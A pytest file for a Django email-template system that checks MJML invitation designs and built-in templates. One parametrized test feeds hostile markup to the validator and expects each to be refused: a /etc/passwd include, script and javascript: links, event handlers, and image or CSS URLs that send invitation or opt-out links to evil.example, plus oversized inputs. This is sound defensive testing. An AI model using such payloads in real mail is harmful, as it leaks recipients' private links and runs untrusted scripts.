"""Saving templates, and the built-in ones."""

import datetime
import itertools
import re

import pytest

from guestlist.mail import builtin, markup, templates
from guestlist.mail.language import MalformedTemplate
from guestlist.mail.models import Template, TemplateText, TemplateVersion
from guestlist.mail.templates import MissingVariables, UnusableSubject, samples_of, validate
from guestlist.refusal import Refusal

NOW = datetime.datetime(2026, 11, 21, 12, tzinfo=datetime.UTC)
TEXT = "{{ invitation_url }} {{ opt_out_url }} {{ store_name }}"
BUILT_IN = [(code, source) for code in builtin.NAMES for source in builtin.sources(code)]


def mjml(body, head=""):
    return (
        f"<mjml><mj-head>{head}</mj-head><mj-body><mj-section><mj-column><mj-text>{TEXT}</mj-text>{body}"
        "</mj-column></mj-section></mj-body></mjml>"
    )


def check(subject="{{ store_name }}", text=TEXT, design=None):
    return validate(
        purpose="invitation", subject=subject, text=text, mjml=mjml("") if design is None else design
    )


def test_a_good_template_gives_html_with_its_tags_and_media_rules():
    html = check(
        design=mjml(
            '<mj-button href="{{ invitation_url }}" background-color="{{ accent }}">Go</mj-button>'
            "<mj-raw>{% if message %}</mj-raw><mj-text>{{ message }}</mj-text><mj-raw>{% endif %}</mj-raw>",
            head="<mj-style>@media (prefers-color-scheme: dark) { .a { color: {{ accent }} } }</mj-style>",
        )
    )

    assert 'href="{{ invitation_url }}"' in html
    assert "{% if message %}" in html
    assert "@media (prefers-color-scheme: dark)" in html
    assert "http" not in re.sub(
        r"http://www\.w3\.org|xmlns:?\w*=\"[^\"]*\"|HTTP-EQUIV", "", html, flags=re.IGNORECASE
    ).replace("http-equiv", "")


@pytest.mark.requirement("trust-27")
@pytest.mark.parametrize(
    ("design", "refusal"),
    [
        ("", markup.MalformedMarkup),
        ("hello", markup.MalformedMarkup),
        ("<mjml><mj-body>", markup.MalformedMarkup),
        (mjml('<mj-include path="/etc/passwd" />'), markup.RefusedMarkup),
        (mjml("", head='<mj-font name="x" href="https://evil.example/x.css" />'), markup.RefusedMarkup),
        (mjml("", head="<mj-style>@import url(https://evil.example)</mj-style>"), markup.RefusedMarkup),
        (mjml("<mj-text><script>alert(1)</script></mj-text>"), markup.RefusedMarkup),
        (mjml("<mj-raw><iframe src='https://x.example'></iframe></mj-raw>"), markup.RefusedMarkup),
        (mjml('<mj-text><a href="https://x.example" onclick="x()">x</a></mj-text>'), markup.RefusedMarkup),
        (mjml('<mj-text><a href="javascript:alert(1)">x</a></mj-text>'), markup.RefusedMarkup),
        (
            mjml(
                '<mj-text><a href="{% if message %}https:{% else %}javascript:x{% endif %}">x</a></mj-text>'
            ),
            markup.RefusedMarkup,
        ),
        (mjml('<mj-text><a href="{{ message }}">x</a></mj-text>'), markup.MisplacedVariable),
        (mjml('<mj-text><a href="{{ inviter_name }}">x</a></mj-text>'), markup.RefusedMarkup),
        (mjml('<mj-image src="https://evil.example/?{{ invitation_url }}" />'), markup.RefusedMarkup),
        (mjml('<mj-text><a href="//evil.example/{{ opt_out_url }}">x</a></mj-text>'), markup.RefusedMarkup),
        (
            mjml(
                '<mj-text><p style="background:url(https://evil.example/{{ invitation_url }})">x</p></mj-text>'
            ),
            markup.MisplacedVariable,
        ),
        (mjml('<mj-text><b style="{{ inviter_name }}">x</b></mj-text>'), markup.MisplacedVariable),
        (mjml("", head="<mj-style>{{ store_name }}</mj-style>"), markup.MisplacedVariable),
        (mjml("<mj-text>{{ nobody }}</mj-text>"), MalformedTemplate),
        (mjml("<mj-text>{% if message %}</mj-text>"), MalformedTemplate),
    ],
)
def test_a_design_that_would_do_more_is_refused(design, refusal):
    with pytest.raises(refusal) as caught:
        check(design=design)

    assert str(caught.value)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("{{ invitation_url }} {{ store_name }}", "{{ opt_out_url }}"),
        (
            "{% if message %}{{ invitation_url }}{% endif %} {{ opt_out_url }} {{ store_name }}",
            "{{ invitation_url }}",
        ),
    ],
)
def test_a_text_without_what_every_mail_must_have_is_refused(text, words):
    with pytest.raises(MissingVariables) as caught:
        check(text=text)

    assert words in str(caught.value)


def test_what_every_mail_must_have_may_stand_in_both_branches():
    check(
        text="{% if message %}{{ invitation_url }}{% else %}{{ invitation_url }}{% endif %}"
        "{% if opt_out_url %}{{ opt_out_url }}{% endif %}{{ store_name }}"
    )


@pytest.mark.parametrize("subject", ["", " ", "a\nb", "{{ message }}", "x" * 251])
def test_a_subject_that_is_no_line_is_refused(subject):
    with pytest.raises(UnusableSubject):
        check(subject=subject)


def test_every_variable_is_documented_with_a_sample_in_each_language():
    for code in builtin.NAMES:
        for variable in templates.variables_of(code).values():
            assert str(variable.sentence).endswith(".")
            assert set(variable.samples) == {"en", "nl"}
            assert variable.sample("de") == variable.samples["en"]


def every_shape():
    """Each built-in template with every combination of what may be absent."""
    for code, source in BUILT_IN:
        absent = [
            "message",
            "inviter_name",
            "occasion",
            "expires",
            "decline_url",
            "privacy_url",
            "person_name",
        ]
        absent += ["valid_days", "logo_url", "legal_name"]
        names = [name for name in absent if name in templates.variables_of(code)]
        for given in itertools.product([True, False], repeat=len(names)):
            yield code, source, {name: "" for name, there in zip(names, given, strict=True) if not there}


def test_built_in_templates_are_valid_small_and_tidy_in_every_shape():
    html = {
        id(source): validate(purpose=code, subject=source.subject, text=source.text, mjml=source.mjml)
        for code, source in BUILT_IN
    }
    for code, source, absent in every_shape():
        programs = templates.compiled(
            purpose=code, subject=source.subject, text=source.text, html=html[id(source)]
        )
        values = samples_of(code, source.language) | {"logo_url": "https://shop.example/logo.png"} | absent
        mail = templates.render_all(programs, values)

        assert len(mail.html.encode()) < 100_000
        assert mail.subject
        assert "  " not in mail.subject
        assert "\n\n\n" not in mail.text
        assert not mail.text.startswith("\n")
        assert "{" not in mail.text
        assert not re.search(r" [.,]", mail.text)


@pytest.mark.requirement("trust-17")
@pytest.mark.parametrize(("code", "source"), [pair for pair in BUILT_IN if pair[0] == "invitation"])
def test_the_invitation_says_who_asked_and_how_never_to_be_asked_again_in_both_parts(code, source):
    html = validate(purpose=code, subject=source.subject, text=source.text, mjml=source.mjml)
    programs = templates.compiled(purpose=code, subject=source.subject, text=source.text, html=html)
    values = samples_of(code, source.language) | {"message": "Kom je ook?"}

    mail = templates.render_all(programs, values)

    assert values["inviter_name"] in mail.subject
    for part in (mail.text, mail.html.replace("&amp;", "&")):
        for name in (
            "inviter_name",
            "inviter_address",
            "invitee_address",
            "message",
            "occasion",
            "expires",
            "store_name",
        ):
            assert values[name] in part, name
        for name in (
            "invitation_url",
            "decline_url",
            "opt_out_url",
            "privacy_url",
            "legal_name",
            "registration_number",
        ):
            assert values[name] in part, name


@pytest.mark.parametrize(("code", "source"), [pair for pair in BUILT_IN if pair[0] == "invitation"])
def test_the_invitation_of_staff_names_nobody(code, source):
    html = validate(purpose=code, subject=source.subject, text=source.text, mjml=source.mjml)
    programs = templates.compiled(purpose=code, subject=source.subject, text=source.text, html=html)
    values = samples_of(code, source.language) | {"inviter_name": "", "inviter_address": "", "message": ""}

    mail = templates.render_all(programs, values)

    assert mail.subject.startswith(values["store_name"])
    assert "border-left" not in mail.html  # no empty block of a message
    assert "()" not in mail.text + mail.html


@pytest.mark.django_db
def test_built_in_templates_are_installed_once():
    before = TemplateVersion.objects.count()

    templates.install(now=NOW)

    assert TemplateVersion.objects.count() == before == len(builtin.NAMES)
    assert TemplateText.objects.count() == len(BUILT_IN)
    assert Template.objects.filter(is_builtin=True).count() == len(builtin.NAMES)


@pytest.mark.django_db
def test_a_built_in_template_that_changed_gets_a_new_version_and_the_old_one_stays():
    old = TemplateVersion.objects.get(template__code="invitation")
    TemplateVersion.objects.filter(pk=old.pk).update(digest="another")

    templates.install(now=NOW)

    numbers = (
        TemplateVersion.objects.filter(template__code="invitation")
        .order_by("number")
        .values_list("number", flat=True)
    )
    assert list(numbers) == [1, 2]
    assert old.texts.count() == 2


def test_refusals_have_sentences_in_dutch():
    from django.utils import translation

    with translation.override("nl"), pytest.raises(Refusal) as caught:
        check(text="{{ nobody }}")
    with translation.override("nl"):
        assert "Regel 1" in str(caught.value)


@pytest.mark.requirement("trust-27")
@pytest.mark.parametrize("inside", ["<div>" * 20_000 + "</div>" * 20_000, "x" * 3_000_000])
def test_a_design_that_would_exhaust_the_compiler_is_refused(inside):
    with pytest.raises(markup.MalformedMarkup):
        check(design=mjml(inside))
